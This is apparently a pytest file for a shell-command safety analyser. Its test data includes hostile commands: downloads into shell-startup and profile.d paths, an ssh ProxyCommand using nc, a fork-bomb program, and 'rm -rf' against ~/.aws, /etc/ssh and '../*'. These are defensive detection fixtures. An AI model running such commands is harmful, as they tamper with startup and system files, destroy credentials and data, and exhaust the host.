"""Rules over one effect on a class of targets. Writing is judged over the one answer to "which
files does this command write" (`effects.written_files`), deleting over `deletion_targets`, so
every way of writing (redirections, tee, cp, install, dd, sed -i, downloads) or deleting (rm,
rimraf, trash) reaches every class of target, and look-alike targets pass."""

from __future__ import annotations

import pytest

from tooldeck.safety import analyse_command
from tooldeck.safety.analysis.effects import written_files
from tooldeck.safety.analysis.model import Field, Invocation

# `{}` is the written file.
WRITERS = [
    "echo 'x' > {}",
    "printf 'x' | tee -a {}",
    "cp payload {}",
    "install -m 0755 payload {}",
    "dd if=payload of={}",
    "curl -fsSLo {} https://example.com/payload",
    "sed -i 's/a/b/' {}",
]
TARGETS = [
    ("~/.bashrc", "write-shell-startup"),
    ("~/.config/autostart/agent.desktop", "write-shell-startup"),
    ("/etc/sudoers.d/agent", "write-system-config"),
    (".git/hooks/pre-commit", "write-git-hook"),
    ("/proc/sys/kernel/randomize_va_space", "kernel-tamper"),
]
LOOK_ALIKES = ["notes/bashrc.txt", "build/etc/sudoers.d.txt", "docs/git/hooks.md", "fixtures/proc/sys/vm.txt"]


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize(("target", "rule"), TARGETS)
def test_every_way_of_writing_reaches_every_class_of_target(writer: str, target: str, rule: str) -> None:
    verdict = analyse_command(writer.format(target))
    assert rule in {f.rule for f in verdict.findings}, verdict


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("target", LOOK_ALIKES)
def test_the_same_writes_to_look_alike_files_are_safe(writer: str, target: str) -> None:
    assert analyse_command(writer.format(target)).verdict == "safe"


def test_a_download_named_after_its_url_is_a_written_file() -> None:
    def written(line: str) -> list[str]:
        return [f.text for f, _ in written_files(Invocation(tuple(Field(w) for w in line.split())))]

    assert written("curl -fsSLO https://example.com/get/install.sh") == ["install.sh"]
    assert written("wget -q https://example.com/get/") == ["get"]
    assert written("wget -qO setup.sh https://example.com/get") == ["setup.sh"]
    assert written("curl -o - https://example.com/get") == []


def test_a_file_written_after_cd_is_judged_and_shown_where_it_lands() -> None:
    verdict = analyse_command("cd /etc/profile.d && curl -fsSLO https://example.com/agent.sh")
    assert verdict.rule == "write-system-config" and "/etc/profile.d/agent.sh" in verdict.reason
    assert analyse_command("cd /tmp/work && curl -fsSLO https://example.com/agent.sh").verdict == "safe"


def test_a_content_condition_narrows_a_write_rule() -> None:
    assert analyse_command("echo 'ProxyCommand nc %h %p' >> ~/.ssh/config").rule == "write-shell-startup"
    assert analyse_command("echo 'Host build' >> ~/.ssh/config").verdict == "safe"
    forks = "echo 'int main(){for(;;)fork();}' > bomb.c"
    assert analyse_command(forks).rule == "write-fork-program"
    assert analyse_command("echo 'int main(){return 0;}' > ok.c").verdict == "safe"


# Deleting is judged the same way: one effect (`deletion_targets`: rm, rimraf, trash, rsync
# --delete...) over classes of target, each class a declared rule.
DELETERS = ["rm -rf {}", "npx rimraf {}", "trash-put {}", "sudo rm -r {}"]


@pytest.mark.parametrize("deleter", DELETERS)
@pytest.mark.parametrize(
    ("target", "rule"),
    [("/etc/ssh", "delete-system"), ("~/.aws", "delete-credentials"), ("../*", "delete-outside-workspace")],
)
def test_every_deleting_program_reaches_every_class_of_target(deleter: str, target: str, rule: str) -> None:
    assert rule in {f.rule for f in analyse_command(deleter.format(target)).findings}


@pytest.mark.parametrize("deleter", DELETERS)
def test_deleting_a_build_folder_is_safe(deleter: str) -> None:
    assert analyse_command(deleter.format("./build/cache")).verdict == "safe"
